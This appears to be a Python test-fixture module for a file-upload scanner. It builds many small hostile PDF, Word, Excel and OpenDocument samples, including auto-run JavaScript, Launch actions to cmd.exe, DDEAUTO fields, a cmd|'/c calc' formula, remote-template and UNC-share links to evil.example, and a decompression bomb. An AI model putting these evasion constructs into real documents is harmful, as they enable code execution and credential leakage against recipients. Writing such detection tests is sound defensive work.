"""Documents that hide what they do, each in a way that a reader of the format follows."""

import base64
import binascii
import zlib

from tests.portal.files.good_files import OFFICE_RELATIONS, WORD, office, open_document, relation
from tests.portal.files.pdf_files import compressed, pdf, stream, updated

OPENS_4 = b"/OpenAction 4 0 R"
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
ADDRESS = b"<< /S /URI /URI (https://evil.example/) >>"
FILE = b"<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>"
CARRIED = stream(b"MZ", b"/Type /EmbeddedFile")


def link(action):
    return b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A %b >>" % action


def annotation(kind, *, rest=b""):
    return b"<< /Type /Annot /Subtype /%b /Rect [0 0 9 9] %b >>" % (kind, rest)


def hexed(content):
    return binascii.hexlify(zlib.compress(content)) + b">"


def lettered(content):
    return base64.a85encode(content) + b"~>"


def script_in_stream(**options):
    return compressed(SCRIPT, catalog=OPENS_4, **options)


HOSTILE_PDFS = {
    "script when it opens": pdf(SCRIPT, catalog=OPENS_4),
    "script with an escaped name": pdf(SCRIPT.replace(b"/JavaScript", b"/J#61vaScrip#74"), catalog=OPENS_4),
    "script behind a comment": pdf(SCRIPT.replace(b"/S ", b"/S % a /GoTo\n"), catalog=OPENS_4),
    "script whose kind stands elsewhere": pdf(b"<< /S 5 0 R /JS (1) >>", b"/JavaScript", catalog=OPENS_4),
    "script in the list of names": pdf(SCRIPT, catalog=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"),
    "script of a page": pdf(SCRIPT, page=b"/AA << /O 4 0 R >>"),
    "script of a key": pdf(annotation(b"Widget", rest=b"/AA << /K << /S /JavaScript /JS (1) >> >>")),
    "script after a harmless act": pdf(b"<< /S /GoTo /D [3 0 R /Fit] /Next [<< /S /JavaScript /JS (1) >>] >>"),
    "script in an object stream": script_in_stream(),
    "script in an object stream in hexadecimal": script_in_stream(
        pack=hexed, filters=b"/Filter [/ASCIIHexDecode /FlateDecode]"
    ),
    "script in an object stream in letters": script_in_stream(pack=lettered, filters=b"/Filter /A85"),
    "script in a plain object stream": script_in_stream(pack=bytes, filters=b""),
    "script in an object stream without a type": script_in_stream(kind=b""),
    "script in an object stream of another type": script_in_stream(kind=b"/Type /XObject"),
    "script in an object stream with an escaped type": script_in_stream(kind=b"/Type /Obj#53tm"),
    "script far inside an object stream": script_in_stream(gap=b" " * 9_000),
    "script behind a comment in an object stream": script_in_stream(gap=b"% /First\n" * 600),
    "object stream of an unknown filter": script_in_stream(filters=b"/Filter /Unknown"),
    "object stream that is damaged": script_in_stream(pack=lambda content: zlib.compress(content)[:-40]),
    "bomb in an object stream": compressed(b"(" + bytes(200 << 20) + b")"),
    "script that the index hides": pdf(catalog=OPENS_4, trailer=b"/Hint 9", after=b"").replace(
        b"trailer", b"4 0 obj\n" + SCRIPT + b"\nendobj\ntrailer"
    ),
    "script in an update": updated(pdf(catalog=OPENS_4), SCRIPT),
    "launch": pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=OPENS_4),
    "launch behind a link": pdf(link(b"<< /S /Launch /Win << /F (cmd.exe) >> >>")),
    "form that sends": pdf(link(b"<< /S /SubmitForm /F (https://evil.example/) >>")),
    "form that loads": pdf(link(b"<< /S /ImportData /F (a.fdf) >>")),
    "form in XML": pdf(stream(b"<xdp/>"), catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >>"),
    "form in a list of XML": pdf(stream(b"<xdp/>"), catalog=b"/AcroForm << /XFA [(a) 4 0 R] >>"),
    "film": pdf(annotation(b"Movie", rest=b"/Movie << /F (a.avi) >>")),
    "sound": pdf(annotation(b"Sound", rest=b"/Sound 5 0 R")),
    "screen": pdf(annotation(b"Screen", rest=b"/A << /S /Rendition >>")),
    "rich media": pdf(annotation(b"RichMedia")),
    "attachment in the list of names": pdf(
        FILE, CARRIED, catalog=b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"
    ),
    "attachment by an annotation": pdf(annotation(b"FileAttachment", rest=b"/FS 5 0 R"), FILE.replace(b"5 0", b"6 0")),
    "attachment without a type": pdf(b"<< /F (a.exe) /EF << /UF 5 0 R >> >>", stream(b"MZ")),
    "attachment of the document": pdf(FILE, CARRIED, catalog=b"/AF [4 0 R]"),
    "portfolio": pdf(catalog=b"/Collection << /View /D >>"),
    "go-to in an attachment": pdf(link(b"<< /S /GoToE /T << /R /C >> >>")),
    "go-to in another file": pdf(link(b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>")),
    "content from another file": pdf(stream(b"", b"/F (https://evil.example/a) /FFilter /FlateDecode")),
    "page from another file": pdf(stream(b"", b"/Type /XObject /Subtype /Form /Ref << /F (a.pdf) /Page 0 >>")),
    "thread in another file": pdf(link(b"<< /S /Thread /F (a.pdf) /D 0 >>")),
    "address when it opens": pdf(ADDRESS, catalog=OPENS_4),
    "address when a page opens": pdf(page=b"/AA << /O %b >>" % ADDRESS),
    "address after an opening act": pdf(
        b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://a.example) >> >>", catalog=OPENS_4
    ),
    "link to a share": pdf(link(b"<< /S /URI /URI (\\\\\\\\evil.example\\\\share) >>")),
    "link to a share by file": pdf(link(b"<< /S /URI /URI (file://evil.example/share) >>")),
    "link to a script": pdf(link(b"<< /S /URI /URI (java\\tscript:alert\\(1\\)) >>")),
    "link to a program": pdf(link(b"<< /S /URI /URI (ms-msdt:/id a) >>")),
    "base of all links": pdf(catalog=b"/URI << /Base (file://evil.example/) >>"),
    "encrypted": pdf(b"<< /Filter /Standard /V 1 /R 2 /O (a) /U (b) /P -4 >>", trailer=b"/Encrypt 4 0 R"),
    "no page": pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [     ] /Count 0"),
    "cut off": pdf()[:-40],
}


def word(body, *, relations="", extra=None):
    """A docx with this body."""
    document = f'<?xml version="1.0"?><w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return office("docx", main=document, relations=relations, extra=extra)


def field(*pieces, result="a"):
    """A field whose instruction is written in several runs."""
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    mark = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'
    return f"{mark.format('begin')}{runs}{mark.format('separate')}<w:t>{result}</w:t>{mark.format('end')}"


def external(kind, target):
    return relation(f"{OFFICE_RELATIONS}/{kind}", target, external=True)


def workbook(sheet, **options):
    return office("xlsx", extra={"xl/worksheets/sheet1.xml": f"<worksheet>{sheet}</worksheet>"}, **options)


def connections(inside):
    return office("xlsx", extra={"xl/connections.xml": f"<connections><connection>{inside}</connection></connections>"})


MACRO_SHEET = '<Override PartName="/xl/worksheets/sheet2.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
ODF = 'xmlns:office="o" xmlns:xlink="l" xmlns:draw="d" xmlns:text="t" xmlns:table="a" xmlns:script="s"'


def text_with(inside, **options):
    return open_document("odt", content=f"<office:document-content {ODF}>{inside}</office:document-content>", **options)


def table_with(inside):
    return open_document("ods", content=f"<office:document-content {ODF}>{inside}</office:document-content>")


HOSTILE_OFFICE = {
    "exchange field.docx": word(field("DDEAUTO c:\\\\windows\\\\cmd.exe")),
    "exchange field in pieces.docx": word(field("D", "D", "E au", "to")),
    "exchange field in small letters.docx": word(field(" dde excel a")),
    "exchange field that was deleted.docx": word(field("DDE a").replace("instrText", "delInstrText")),
    "exchange field in text.docx": word(field("DDE a").replace("instrText", "t")),
    "exchange field with an entity.docx": word(field("&#68;DE a")),
    "exchange field behind a comment.docx": word(field("D<!-- a -->DE b")),
    "exchange field in a block.docx": word(field("D<![CDATA[DE]]> b")),
    "exchange field that is computed.docx": word(field("</w:instrText>" + field("QUOTE 68 68 69") + "<w:instrText> a")),
    "simple exchange field.docx": word('<w:fldSimple w:instr="DDE a b"/>'),
    "exchange field in a header.docx": word(
        "a", extra={"word/header1.xml": f'<h xmlns:w="{WORD}">{field("DDE a")}</h>'}
    ),
    "exchange field in UTF-16.docx": office(
        "docx",
        extra={"word/a.xml": f'<?xml version="1.0"?><w:d xmlns:w="{WORD}">{field("DDE a")}</w:d>'.encode("utf-16")},
    ),
    "text from elsewhere.docx": word(field('INCLUDETEXT "https://evil.example/a.docx"')),
    "picture from elsewhere.docx": word(field('INCLUDEPICTURE "\\\\\\\\evil.example\\\\a.png"')),
    "database.docx": word(field("DATABASE \\d a")),
    "link field to a share.docx": word(field('HYPERLINK "\\\\\\\\evil.example\\\\share"')),
    "chunk.docx": word('<w:altChunk r:id="a" xmlns:r="r"/>'),
    "chunk by its relationship.docx": office("docx", relations=relation(f"{OFFICE_RELATIONS}/aFChunk", "a.html")),
    "mail merge.docx": office("docx", extra={"word/settings.xml": f'<a xmlns:w="{WORD}"><w:mailMerge/></a>'}),
    "template on a share.docx": office(
        "docx", relations=external("attachedTemplate", "file:///\\\\evil.example\\a.dotm")
    ),
    "template without its mode.docx": office(
        "docx", relations=relation(f"{OFFICE_RELATIONS}/attachedTemplate", "https://evil.example/a.dotm")
    ),
    "frame.docx": office("docx", relations=external("frame", "https://evil.example/")),
    "object by its relationship.docx": office(
        "docx", relations=relation(f"{OFFICE_RELATIONS}/oleObject", "media/a.dat")
    ),
    "drawing from elsewhere.docx": word('<v:imagedata src="http://evil.example/a.png" xmlns:v="v"/>'),
    "link to a program.docx": office("docx", relations=external("hyperlink", "search-ms:query=a")),
    "link to a share.docx": office("docx", relations=external("hyperlink", "\\\\evil.example\\share")),
    "web extension.docx": office("docx", relations=relation("a/webextensiontaskpanes", "a.xml")),
    "macro sheet by its type.xlsx": office("xlsx", types=MACRO_SHEET),
    "macro sheet by its relationship.xlsx": office("xlsx", relations=relation("a/xlMacrosheet", "a.xml")),
    "web query.xlsx": connections('<webPr url="https://evil.example/"/>'),
    "database connection.xlsx": connections('<dbPr connection="DRIVER=a" command="b"/>'),
    "cube.xlsx": connections("<olapPr/>"),
    "exchange link.xlsx": office("xlsx", extra={"xl/externalLinks/a.xml": '<e><ddeLink ddeService="cmd"/></e>'}),
    "exchange formula.xlsx": workbook("<c><f>cmd|'/c calc'!A1</f></c>"),
    "formula of the web.xlsx": workbook('<c><f>_xlfn.WEBSERVICE("https://evil.example/")</f></c>'),
    "picture of the web.xlsx": workbook('<c><f>_xlfn.IMAGE("https://evil.example/")</f></c>'),
    "formula of a program.xlsx": workbook('<c><f>RTD("a",,"b")</f></c>'),
    "formula of a library.xlsx": workbook("<c><x:f xmlns:x='x'>CA<!-- -->LL(\"a\")</x:f></c>"),
    "workbook from elsewhere.xlsx": office(
        "xlsx", relations=external("externalLinkPath", "https://evil.example/a.xlsx")
    ),
    "program behind a click.pptx": office(
        "pptx", extra={"ppt/slides/a.xml": '<s><h action="ppaction://program"/></s>'}
    ),
    "film from elsewhere.pptx": office("pptx", relations=external("video", "https://evil.example/a.mp4")),
    "image from elsewhere.odt": text_with('<draw:image xlink:href="https://evil.example/a.png"/>'),
    "image beside it.odt": text_with('<draw:image xlink:href="../a.png"/>'),
    "section from elsewhere.odt": text_with('<text:section-source xlink:href="file://evil.example/a.odt"/>'),
    "object from elsewhere.odt": text_with('<draw:object xlink:href="https://evil.example/a"/>'),
    "frame.odt": text_with('<draw:floating-frame xlink:href="a"/>'),
    "applet.odt": text_with("<draw:applet/>"),
    "script event.odt": text_with('<script:event-listener script:event-name="dom:load"/>'),
    "script element.odt": text_with('<script:script script:language="ooo:script"/>'),
    "script link.odt": text_with('<text:a xlink:href="vnd.sun.star.script:a?language=Basic"/>'),
    "macro link.odt": text_with('<text:a xlink:href="macro:///Standard.a"/>'),
    "StarBasic library.odt": text_with("a", extra={"Basic/Standard/a.xml": "<a/>"}),
    "exchange.odt": text_with('<text:dde-connection-decl office:dde-application="a"/>'),
    "template from elsewhere.odt": text_with(
        "a", extra={"meta.xml": f'<a {ODF}><template xlink:href="https://evil.example/a.ott"/></a>'}
    ),
    "font from elsewhere.odt": text_with('<font-face-uri xlink:href="https://evil.example/a.ttf"/>'),
    "exchange formula.ods": table_with('<table:table-cell table:formula=\'of:=DDE("a";"b";"c")\'/>'),
    "exchange links.ods": table_with("<table:dde-links/>"),
    "web formula.ods": table_with("<table:table-cell table:formula='of:=WEBSERVICE(\"a\")'/>"),
    "table from elsewhere.ods": table_with('<table:table-source xlink:href="https://evil.example/a.ods"/>'),
    "database.ods": table_with('<table:database-source-sql table:database-name="a"/>'),
}
